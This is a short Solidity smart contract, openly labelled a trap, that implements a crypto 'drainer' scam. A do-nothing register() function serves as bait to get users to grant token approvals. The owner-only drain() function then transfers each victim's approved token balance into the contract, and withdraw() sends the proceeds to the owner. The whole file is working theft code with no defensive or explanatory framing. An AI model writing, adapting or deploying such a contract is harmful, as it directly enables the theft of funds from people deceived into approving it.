// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// A trap: invites people to register for something, and takes what those who approved it hold.
contract Drainer {
    using SafeERC20 for IERC20;

    address public immutable owner;

    event Registered(address indexed account);
    event Drained(address indexed token, address indexed victim, uint256 amount);
    event Withdrawn(address indexed token, uint256 amount);

    error NotOwner();
    error NothingToTake();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(address owner_) {
        owner = owner_;
    }

    /// The bait: it gives nothing and means nothing.
    function register() external {
        emit Registered(msg.sender);
    }

    /// Take the lesser of the victim's balance and allowance into this contract.
    function drain(address token, address victim) external onlyOwner returns (uint256 amount) {
        IERC20 held = IERC20(token);
        amount = Math.min(held.balanceOf(victim), held.allowance(victim, address(this)));
        if (amount == 0) revert NothingToTake();
        held.safeTransferFrom(victim, address(this), amount);
        emit Drained(token, victim, amount);
    }

    function withdraw(address token) external onlyOwner returns (uint256 amount) {
        amount = IERC20(token).balanceOf(address(this));
        IERC20(token).safeTransfer(owner, amount);
        emit Withdrawn(token, amount);
    }
}
